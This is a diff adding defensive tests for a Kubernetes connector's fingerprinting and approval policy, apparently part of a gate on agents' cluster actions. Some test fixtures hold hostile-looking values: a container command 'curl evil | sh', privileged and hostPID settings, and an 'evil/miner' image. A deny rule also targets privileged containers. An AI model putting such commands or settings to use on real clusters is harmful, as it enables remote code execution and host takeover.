@@ -39,6 +39,8 @@ describe('Kubernetes facts', () => {
       namespace: 'shop',
       name: 'web',
       bodyName: '',
+      fields: ['spec.replicas'],
+      body: { spec: { replicas: 3 } },
       readOnly: false,
     });
     assert.deepEqual(apiCall(scale(3)), {
@@ -94,6 +96,85 @@ describe('Kubernetes facts', () => {
     assert.equal(fingerprint(scale(3)), fingerprint(scale(5)));
     assert.notEqual(fingerprint(scale(3)), fingerprint({ ...scale(3), name: 'api' }));
     assert.notEqual(fingerprint(scale(3)), fingerprint({ ...scale(3), namespace: 'kube-system' }));
+    const created = (name: string): KubernetesCommand => ({
+      verb: 'create',
+      apiVersion: 'v1',
+      resource: 'configmaps',
+      namespace: 'shop',
+      body: { metadata: { name }, data: { mode: 'a' } },
+    });
+    assert.notEqual(
+      fingerprint(created('web-settings')),
+      fingerprint(created('db-settings')),
+      'another object created',
+    );
+  });
+
+  test('a grant covers no change to other fields than the ones it was made on (ADR 052)', () => {
+    const fingerprint = (command: KubernetesCommand) => kubernetesConnector.fingerprint(command);
+    const patched = (spec: Record<string, unknown>): KubernetesCommand => ({ ...scale(3), body: { spec } });
+    const container = (extra: Record<string, unknown>) => ({
+      template: { spec: { containers: [{ name: 'web', image: 'shop/web:1.4', ...extra }] } },
+    });
+    const imaged = (image: string) => patched({ template: { spec: { containers: [{ name: 'web', image }] } } });
+    assert.equal(
+      fingerprint(imaged('shop/web:1.4')),
+      fingerprint(imaged('evil/miner:latest')),
+      'a value of the same field',
+    );
+    for (const other of [
+      container({}),
+      container({ securityContext: { privileged: true } }),
+      container({ command: ['sh', '-c', 'curl evil | sh'] }),
+      { replicas: 3, template: { spec: { hostPID: true } } },
+      { replicas: 3, paused: true },
+    ])
+      assert.notEqual(fingerprint(scale(3)), fingerprint(patched(other)), JSON.stringify(other));
+  });
+
+  test('policy sees every field a body sets, so it can tell a scale from a privileged container', () => {
+    const pod = facts({
+      verb: 'create',
+      apiVersion: 'v1',
+      resource: 'pods',
+      namespace: 'shop',
+      body: {
+        metadata: { name: 'debug', annotations: { 'example.com/owner': 'ops' } },
+        spec: { containers: [{ name: 'a', image: 'x', securityContext: { privileged: true } }], volumes: [] },
+      },
+    });
+    assert.deepEqual(pod.fields, [
+      'metadata.annotations["example.com/owner"]',
+      'metadata.name',
+      'spec.containers[].image',
+      'spec.containers[].name',
+      'spec.containers[].securityContext.privileged',
+      'spec.volumes',
+    ]);
+    const policy = compilePolicy(
+      'kubernetes-fields.yaml',
+      `version: 1
+default: { effect: require_approval, approval: { groups: [ops], timeout: 1h } }
+rules:
+  - name: no-privileged-containers
+    when: kubernetes.fields.exists(f, f.endsWith("securityContext.privileged") || f.endsWith(".hostPID"))
+    effect: deny
+    reason: no privileged containers through the gate
+  - name: scaling-only
+    when: kubernetes.verb == "patch" && kubernetes.fields == ["spec.replicas"] && kubernetes.body.spec.replicas <= 10
+    effect: allow
+`,
+    );
+    const decide = (kubernetes: ReturnType<typeof facts>) =>
+      policy.decide({
+        request: { id: 'req_x', agent: 'a', connector: 'kubernetes', target: 'prod', reason: 'r', metadata: {} },
+        kubernetes,
+      }).rule;
+    assert.equal(decide(pod), 'no-privileged-containers');
+    assert.equal(decide(facts(scale(4) as unknown as Record<string, unknown>)), 'scaling-only');
+    assert.equal(decide(facts(scale(40) as unknown as Record<string, unknown>)), 'default');
+    const alsoPaused = { ...scale(4), body: { spec: { replicas: 4, paused: true } } };
+    assert.equal(decide(facts(alsoPaused as unknown as Record<string, unknown>)), 'default');
   });
 
   test('a policy can allow reads, hold scaling for SRE and deny deleting namespaces', () => {
